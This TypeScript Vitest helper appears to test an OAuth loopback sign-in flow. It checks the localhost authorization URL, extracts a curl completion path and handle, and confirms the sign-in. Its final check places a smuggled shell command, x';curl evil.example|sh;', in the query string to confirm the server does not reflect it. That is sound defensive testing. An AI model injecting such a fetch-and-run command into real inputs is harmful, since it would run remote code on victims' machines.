import { expect } from 'vitest';
import type { ApiClient } from '../../../support/api-client.ts';
import { TestBrowser } from '../../../support/oauth/test-browser.ts';
import { startSignInBench } from '../../oauth/support/sign-in-bench.ts';

/**
 * Signs in to a server as the README says it, with the command that the page in the end shows.
 * @param url of the service, which may reach the loopback interface
 */
export async function expectSignIn(url: string, client: ApiClient): Promise<void> {
  const bench = await startSignInBench();
  try {
    const { id, authorization_url } = (await bench.begin(client)).ok(201);
    // Only of a host of this name do browsers take the cookie without https.
    expect(new URL(authorization_url).hostname).toBe('localhost');
    const hosts = { [new URL(authorization_url).origin]: url };
    const arrival = await new TestBrowser({ stops: 'nowhere', hosts }).open(authorization_url);
    const [, path = '', handle = ''] =
      /curl -s http:\/\/127\.0\.0\.1:\d+(\S+)[\s\S]*"handle":"([\w-]+)"/.exec(arrival.text) ?? [];
    expect(path).toBe(`/api/oauth/authorizations/${id}/complete`);
    expect((await bench.complete(client, id, handle)).ok().status).toBe('ENABLED');

    // Of what others put into the address, nothing is repeated.
    const page = new URL(arrival.url.origin);
    page.search = `authorization_id=${id}&handle=x';curl evil.example|sh;'`;
    expect((await fetch(page)).status).toBe(404);
  } finally {
    await bench.close();
  }
}
